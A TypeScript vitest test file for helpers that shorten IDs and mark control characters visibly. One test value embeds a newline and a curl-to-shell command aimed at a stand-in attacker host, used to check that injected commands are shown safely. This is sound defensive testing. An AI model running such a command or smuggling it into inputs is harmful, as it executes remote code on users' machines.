import { describe, expect, it } from 'vitest'
import { echoText } from '@/lib/bound-text'
import { shortIdText, shownId } from './short-id'

const ID = '50f382df-ad88-4c1e-9b7a-3d2f1e0c9b8a'

describe('shownId and shortIdText', () => {
  it('shows the first block of a UUID and "…"; the copy button names that block', () => {
    expect(shownId(ID)).toBe('50f382df…')
    expect(shortIdText(ID)).toBe('50f382df')
  })

  it('shows an id short enough as it is', () => {
    expect(shownId('b-2')).toBe('b-2')
    expect(shortIdText('b-2')).toBe('b-2')
  })
})

describe('an id from outside', () => {
  const HOSTILE = 'b0\ncurl https://evil.example/x | sh\n'

  it('marks its control characters at a glance and in the whole value the cell is named by', () => {
    expect(shownId(HOSTILE)).toBe('b0⟨U+000A⟩curl …')
    expect(shortIdText(HOSTILE)).toBe('b0⟨U+000A⟩curl ')
    expect(echoText(HOSTILE)).toBe('b0⟨U+000A⟩curl https://evil.example/x | sh⟨U+000A⟩')
  })

  it('bounds a 1,000,000-character id, with its length', () => {
    const long = `${'i'.repeat(999_999)}\u202E`
    expect(shownId(long)).toBe('iiiiiiii…')
    expect(echoText(long)).toBe(`${'i'.repeat(200)}… (1,000,000 characters)`)
  })

  it('marks a short id whole, and never cuts a tag character in half', () => {
    expect(shownId('b\u2028\u{E0041}')).toBe('b⟨U+2028⟩⟨U+E0041⟩')
    // The eighth character is the first half of a pair: the glance stops before it.
    expect(shownId(`abcdefg\u{E0041}xyz`)).toBe('abcdefg…')
  })
})
